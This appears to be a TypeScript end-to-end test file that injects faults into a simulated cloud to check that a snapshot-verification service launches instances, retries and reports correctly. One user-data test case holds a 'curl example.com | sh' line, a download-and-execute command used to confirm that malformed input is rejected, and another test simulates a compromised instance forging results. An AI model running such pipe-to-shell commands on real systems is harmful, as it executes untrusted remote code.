import { readFile } from 'node:fs/promises';
import { RunInstancesCommand } from '@aws-sdk/client-ec2';
import { ListTargetsByRuleCommand, PutTargetsCommand, RemoveTargetsCommand } from '@aws-sdk/client-eventbridge';
import {
  GetBucketNotificationConfigurationCommand,
  ListObjectsV2Command,
  type NotificationConfiguration,
  PutBucketNotificationConfigurationCommand,
} from '@aws-sdk/client-s3';
import { ListSchedulesCommand } from '@aws-sdk/client-scheduler';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { attemptRecordSchema, ledgerKey } from '../../agent/contract/ledger.ts';
import { orderSchema } from '../../agent/contract/order.ts';
import { repositories } from '../deployed-stack/configuration.ts';
import type { Lambda } from '../local-cloud/functions/lambda.ts';
import type { Rule } from '../local-cloud/gate/faults.ts';
import type { Machine } from '../local-cloud/host/machine.ts';
import type { CloudEvent } from '../local-cloud/local-cloud.ts';
import { damageFirst, isData } from './damage.ts';
import { forgedInstance, forger } from './forger.ts';
import { type EndToEnd, type Snapshot, startEndToEnd } from './setup.ts';

vi.setConfig({ testTimeout: 300_000, hookTimeout: 600_000 });

/**
 * Whatever happens on the way, the snapshots of this file lack an object: each proof is short, and its verdict known.
 */
let endToEnd: EndToEnd;
const patiently = { timeout: 120_000, interval: 100 };
const lifted: (() => void)[] = [];

beforeAll(async () => {
  // Every machine finds its metadata service late and cross.
  endToEnd = await startEndToEnd({ machineFaults: () => ({ metadata: { silentSeconds: 1, refusals: 2 } }) });
});
afterEach(() => {
  for (const lift of lifted.splice(0)) lift();
});
afterAll(() => endToEnd?.end());

async function land(name: string): Promise<Snapshot> {
  const snapshot = await endToEnd.take(name);
  await endToEnd.land(
    'logs',
    damageFirst(isData, () => null),
  );
  return snapshot;
}

/** Returns the function that takes it back; the end of the test does, too. */
function inject(rule: Rule): () => void {
  const lift = endToEnd.stack.cloud.gate.inject(rule);
  lifted.push(lift);
  return lift;
}

function lambda(name: 'trigger' | 'settle'): Lambda {
  const found = endToEnd.stack.cloud.functions.get(`mayfly-local-${name}`);
  if (found === undefined) throw new Error(`There is no function ${name}.`);
  return found;
}

/** One snapshot, one report, and it says the truth, in one mail and one page; one instance, and it is gone. */
async function expectOneTrueEnd(snapshot: Snapshot): Promise<void> {
  const report = await endToEnd.report(snapshot);
  expect(report).toMatchObject({ verdict: 'corrupt', snapshot: { uuid: snapshot.uuid, name: snapshot.name } });
  const { reports, instances, mails, pages } = await endToEnd.outcome(snapshot);
  expect(instances).toEqual([report.instance?.id]);
  expect([reports, mails.length, pages.length]).toEqual([1, 1, 1]);
}

/** The same, after a first attempt that came to nothing: two instances, both gone, and nobody was told of the first. */
async function expectTrueEndOfSecond(snapshot: Snapshot): Promise<void> {
  const report = await endToEnd.report(snapshot);
  expect(report).toMatchObject({ verdict: 'corrupt', snapshot: { uuid: snapshot.uuid, name: snapshot.name } });
  const [first, second, ...others] = report.attempts;
  expect([typeof first?.instanceId, others]).toEqual(['string', []]);
  expect(second).toMatchObject({ outcome: 'corrupt', instanceId: report.instance?.id });
  const { reports, instances, mails, pages } = await endToEnd.outcome(snapshot);
  expect(instances.toSorted()).toEqual(report.attempts.map(({ instanceId }) => instanceId).toSorted());
  expect([reports, instances.length, mails.length, pages.length]).toEqual([1, 2, 1, 1]);
  expect(await schedulesOf(snapshot)).toEqual([]);
}

async function schedulesOf({ runId }: Snapshot): Promise<string[]> {
  const { scheduler } = endToEnd.stack.cloud.clients;
  const { Schedules = [] } = await scheduler.send(new ListSchedulesCommand({ NamePrefix: runId }));
  return Schedules.map(({ Name = '' }) => Name);
}

describe('capacity', () => {
  test('that spot lacks is found on demand', async () => {
    inject({ match: { action: 'CreateFleet', market: 'spot' }, fault: { kind: 'no-capacity' }, times: 1 });
    const snapshot = await land('no-spot');
    await expectOneTrueEnd(snapshot);
    expect((await endToEnd.report(snapshot)).instance?.market).toBe('on-demand');
  });

  test('that no market has is waited for: nothing is launched or said, and later all is as ever', async () => {
    const lift = inject({ match: { action: 'CreateFleet' }, fault: { kind: 'no-capacity' }, times: 1_000 });
    const snapshot = await land('no-capacity');
    const refusals = () => endToEnd.stack.read(ledgerKey.refusal(snapshot.runId, 1, 3));
    await vi.waitFor(async () => expect(await refusals()).not.toBeNull(), patiently);
    expect(await endToEnd.stack.instancesLeft()).toEqual([]);
    expect(await endToEnd.stack.read(ledgerKey.report(snapshot.runId))).toBeNull();
    expect(await endToEnd.stack.read(ledgerKey.attempt(snapshot.runId, 1))).toBeNull();
    lift();
    await expectOneTrueEnd(snapshot);
  });
});

describe('the trigger', () => {
  test.for([
    ['between order and launch', { action: 'PutObject', resource: /orders\/1\.json$/ }],
    ['between launch and schedule', { action: 'CreateFleet' }],
    ['between schedule and record', { action: 'CreateSchedule' }],
    ['after the record', { action: 'PutObject', resource: /attempts\/1\.json$/ }],
  ] as const)('that is killed %s leaves one instance and one report', async ([when, match]) => {
    const kill = vi.fn(() => lambda('trigger').kill());
    inject({ match, fault: { kind: 'meanwhile', when: 'after', run: kill }, times: 1 });
    await expectOneTrueEnd(await land(`killed-${when.replaceAll(' ', '-')}`));
    expect(kill).toHaveBeenCalledOnce();
  });
});

describe('an instance', () => {
  test('that forges results of another’s run, and announces them, changes nothing', async () => {
    const forging = vi.fn(async (snapshot: Snapshot) => {
      const [{ instanceId = '' } = {}] = endToEnd.events.filter((event) => event.kind === 'instance-started').slice(-1);
      const bad = await forger(endToEnd.stack);
      await bad.writeVerified(snapshot);
      await bad.announce(snapshot.runId, forgedInstance);
      await bad.announce(snapshot.runId, instanceId);
      await vi.waitFor(async () => {
        const lines = (await readFile(lambda('settle').log, 'utf8')).split('\n');
        const about = lines.filter((line) => line.includes(snapshot.runId)).join('\n');
        expect(about.match(/claim of an instance that does not work on this run, ignored/g)).toHaveLength(2);
        expect(about).toContain('run is under way');
      }, patiently);
    });
    const snapshot = await endToEnd.take('forged');
    inject({
      match: { action: 'PutObject', resource: /attempts\/.*\/result\.json$/ },
      fault: { kind: 'meanwhile', when: 'before', run: () => forging(snapshot) },
      times: 1,
    });
    await endToEnd.land(
      'logs',
      damageFirst(isData, () => null),
    );
    await expectOneTrueEnd(snapshot);
    expect(forging).toHaveResolved();

    const bad = await forger(endToEnd.stack);
    const key = ledgerKey.report(snapshot.runId);
    for (const condition of [{ IfNoneMatch: '*' }, {}]) {
      await expect(bad.write(key, condition)).rejects.toMatchObject({ name: 'AccessDenied' });
    }
  });

  test.for([
    ['is killed', 'instance-lost', async (machine: Machine) => machine.cutPower()],
    [
      'spot is about to take away',
      'interrupted',
      async (machine: Machine) => {
        await endToEnd.stack.cloud.host.interrupt(machine.instanceId);
        // Storage is so slow that the proof is still under way.
        await machine.poweredOff;
      },
    ],
  ] as const)(
    'that %s is followed by the next attempt, and the verdict is that one’s',
    async ([what, outcome, end]) => {
      inject({
        // Only an agent reads the repository's index; what a snapshot says of itself, the trigger reads, too.
        match: { action: 'GetObject', resource: new RegExp(`${repositories.logs.bucket}/.*index-\\d+$`) },
        fault: {
          kind: 'meanwhile',
          when: 'before',
          run: async () => void (await Promise.all([...endToEnd.stack.cloud.host.machines.values()].map(end))),
        },
        times: 1,
      });
      const snapshot = await land(what.replaceAll(' ', '-'));
      await expectTrueEndOfSecond(snapshot);
      const [first, second] = (await endToEnd.report(snapshot)).attempts;
      expect(first?.outcome).toBe(outcome);
      const gone = endToEnd.events.find(
        (event) => event.kind === 'instance-powered-off' && event.instanceId === first?.instanceId,
      );
      const seconds = (Date.parse(second?.launchedAt ?? '') - Number(gone?.at)) / 1_000;
      expect(seconds).toBeLessThan(30);
    },
  );

  test('whose end cannot be scheduled is ended at once, and followed by the next attempt', async () => {
    inject({ match: { action: 'CreateSchedule' }, fault: { kind: 'refused' }, times: 1 });
    const snapshot = await land('unscheduled');
    await expectTrueEndOfSecond(snapshot);
    const record = await endToEnd.stack.read(ledgerKey.attempt(snapshot.runId, 1));
    expect(attemptRecordSchema.parse(JSON.parse(record ?? '')).unscheduled).toMatch(/AccessDenied/);
  });

  test.for([
    ['is no order', '#!/bin/sh\ncurl example.com | sh', 'not JSON'],
    ['is missing', null, 'empty'],
    ['is an order of another version', '{"version":2}', 'bake an image'],
  ] as const)('whose user-data %s ends at once and writes nothing', async ([, userData, complaint]) => {
    const before = await ledgerKeys();
    const { Instances } = await endToEnd.stack.cloud.clients.ec2.send(
      new RunInstancesCommand({
        ImageId: 'ami-0123456789abcdef0',
        InstanceType: 'm6gd.large',
        MinCount: 1,
        MaxCount: 1,
        IamInstanceProfile: { Name: 'mayfly-local_logs' },
        InstanceInitiatedShutdownBehavior: 'terminate',
        ...(userData !== null && { UserData: Buffer.from(userData).toString('base64') }),
      }),
    );
    const instanceId = Instances?.[0]?.InstanceId;
    const of = (kind: CloudEvent['kind']) =>
      endToEnd.events.filter(
        (event) => event.kind === kind && 'instanceId' in event && event.instanceId === instanceId,
      );
    await vi.waitFor(() => expect(of('instance-terminated')).toHaveLength(1), patiently);
    expect(of('instance-powered-off')).toMatchObject([{ ending: { code: 1 } }]);
    expect(of('console-line').slice(-2)).toMatchObject([
      { line: expect.stringContaining(complaint) },
      { line: expect.stringContaining('the journal is lost with the machine') },
    ]);
    expect(await ledgerKeys()).toEqual(before);
  });
});

describe('messages', () => {
  test('of results that the topic refuses are made up for by the ledger itself', async () => {
    inject({ match: { service: 'sns', resource: /results$/ }, fault: { kind: 'refused' }, times: 1_000 });
    const snapshot = await land('no-notice');
    await expectOneTrueEnd(snapshot);
    const { ledger } = orderSchema.parse(
      JSON.parse((await endToEnd.stack.read(ledgerKey.order(snapshot.runId, 1))) ?? ''),
    );
    const { instances } = await endToEnd.outcome(snapshot);
    const log = await endToEnd.stack.read(ledgerKey.log(ledger.ownPrefix, instances[0] ?? ''));
    expect(log).toMatch(/"delivery failed".*"publish the notice"/);
    expect(endToEnd.events.findLast((event) => event.kind === 'instance-powered-off')?.ending.code).toBe(0);
  });

  test('carry the result that the ledger does not take, and are believed', async () => {
    const result = { action: 'PutObject', resource: /attempts\/.*\/result\.json$/ } as const;
    inject({ match: result, fault: { kind: 'refused' }, times: 1_000 });
    const snapshot = await land('carried');
    await expectOneTrueEnd(snapshot);
    expect(await endToEnd.stack.read(ledgerKey.inline(snapshot.runId, 1))).toContain(snapshot.uuid);
  });

  test('to people that are refused come later, once', async () => {
    inject({ match: { service: 'sns', resource: /people$/ }, fault: { kind: 'refused' }, times: 2 });
    const before = endToEnd.stack.cloud.gate.calls.length;
    await expectOneTrueEnd(await land('no-mail'));
    const published = endToEnd.stack.cloud.gate.calls
      .slice(before)
      .filter(({ resource }) => resource.endsWith('people'));
    expect(published.map(({ status }) => status)).toEqual([403, 403, 200]);
  });

  test('that settle was killed over come all the same', async () => {
    const kill = vi.fn(() => lambda('settle').kill());
    const report = { action: 'PutObject', resource: /runs\/.*\/report\.json$/ };
    inject({ match: report, fault: { kind: 'meanwhile', when: 'after', run: kill }, times: 1 });
    await expectOneTrueEnd(await land('killed-settle'));
    expect(kill).toHaveBeenCalledOnce();
  });

  test('and reports survive a ledger that falters', async () => {
    const records = [/orders\/1\.json$/, /result\.json$/, /report\.json$/, /state\.json$/];
    for (const resource of records) {
      inject({ match: { action: 'PutObject', resource }, fault: { kind: 'throttled' }, times: 2 });
    }
    const before = endToEnd.stack.cloud.gate.calls.length;
    await expectOneTrueEnd(await land('faltering'));
    const refused = endToEnd.stack.cloud.gate.calls.slice(before).filter(({ status }) => status === 503);
    expect(refused).toHaveLength(2 * records.length);
  });
});

test('a result of which every message is lost is found by the sweep, and reported', async () => {
  const { clients } = endToEnd.stack.cloud;
  const notification = { Bucket: endToEnd.stack.ledgerBucket };
  const { $metadata: _, ...before } = await clients.s3.send(
    new GetBucketNotificationConfigurationCommand(notification),
  );
  const silence = (NotificationConfiguration: NotificationConfiguration) =>
    clients.s3.send(new PutBucketNotificationConfigurationCommand({ ...notification, NotificationConfiguration }));
  // moto sends what a disabled rule matches all the same.
  const ends = { Rule: 'mayfly-local-instance-ends' };
  const { Targets = [] } = await clients.events.send(new ListTargetsByRuleCommand(ends));
  inject({ match: { service: 'sns', resource: /results$/ }, fault: { kind: 'refused' }, times: 1_000 });
  await silence({});
  await clients.events.send(new RemoveTargetsCommand({ ...ends, Ids: Targets.map(({ Id = '' }) => Id) }));
  try {
    await expectOneTrueEnd(await land('unheard'));
  } finally {
    await silence(before);
    await clients.events.send(new PutTargetsCommand({ ...ends, Targets }));
  }
});

async function ledgerKeys(): Promise<string[]> {
  const { cloud, ledgerBucket } = endToEnd.stack;
  const { Contents = [] } = await cloud.clients.s3.send(new ListObjectsV2Command({ Bucket: ledgerBucket }));
  return Contents.flatMap(({ Key }) => Key ?? []);
}
